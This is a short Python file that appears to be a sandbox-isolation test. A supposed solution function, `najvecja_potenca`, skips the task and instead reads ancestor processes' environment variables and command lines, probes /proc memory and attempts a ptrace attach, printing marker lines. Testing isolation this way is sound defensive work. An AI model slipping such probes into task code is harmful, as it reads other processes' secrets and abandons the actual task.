# TRIES: reads memory, environment and command of the processes above it, by /proc and by ptrace
import ctypes
import os


def above():
    pid, found = os.getppid(), []
    while pid > 1 and len(found) < 5:
        found.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as file:
                pid = int(file.read().rpartition(")")[2].split()[1])
        except OSError:
            break
    return found


def look():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in above():
        for what in ("environ", "cmdline"):
            try:
                with open("/proc/%d/%s" % (pid, what), "rb") as file:
                    print("READ-OF-OTHERS", what, file.read()[:4000])
            except OSError:
                pass
        try:
            open("/proc/%d/mem" % pid, "rb").close()
            print("READ-OF-OTHERS memory")
        except OSError:
            pass
        if libc.ptrace(16, pid, None, None) == 0:
            libc.ptrace(17, pid, None, None)
            print("READ-OF-OTHERS ptrace")


def najvecja_potenca(n):
    look()
    return -1


def je_potenca(n):
    return n > 0 and n & (n - 1) == 0
